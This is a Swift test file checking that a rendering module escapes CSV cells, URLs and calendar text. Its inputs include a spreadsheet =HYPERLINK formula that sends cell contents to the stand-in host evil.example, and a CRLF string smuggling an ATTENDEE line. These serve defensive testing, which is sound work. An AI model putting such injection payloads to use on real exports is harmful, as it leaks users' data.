import ChiboModel
import Testing

@testable import ChiboRender

/// Every output format holds content as text of its own kind: no formula, no line break, no markup.
@Suite struct HostileOutputTests {
    @Test(arguments: [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "  =1",
    ])
    func formulaCellsStayText(value: String) {
        let cell = ScorecardPages.csvField(value)
        let unquoted = cell.hasPrefix("\"") ? String(cell.dropFirst().dropLast()) : cell
        #expect(unquoted.hasPrefix("'"), "\(cell)")
    }

    @Test func ordinaryCellsAreLeftAsTheyAre() {
        #expect(ScorecardPages.csvField("Chi bộ Văn phòng") == "Chi bộ Văn phòng")
        #expect(ScorecardPages.csvField("a, b") == "\"a, b\"")
        #expect(ScorecardPages.csvField("a; b") == "\"a; b\"")
        #expect(ScorecardPages.csvField("say \"x\"") == "\"say \"\"x\"\"\"")
    }

    @Test func absoluteURLsArePercentEncoded() {
        #expect(SiteURLs.absolute("/van-ban/", baseURL: "https://a.example") == "https://a.example/van-ban/")
        #expect(SiteURLs.absolute("/x\r\nATTENDEE:y <z>\"", baseURL: nil) == "/x%0D%0AATTENDEE:y%20%3Cz%3E%22")
        #expect(SiteURLs.absolute("/đ", baseURL: nil) == "/%C4%91")
    }

    @Test func calendarTextHasNoControlCharacters() {
        #expect(ICS.escape("a\u{1B}b;c,d\ne") == "ab\\;c\\,d\\ne")
    }
}
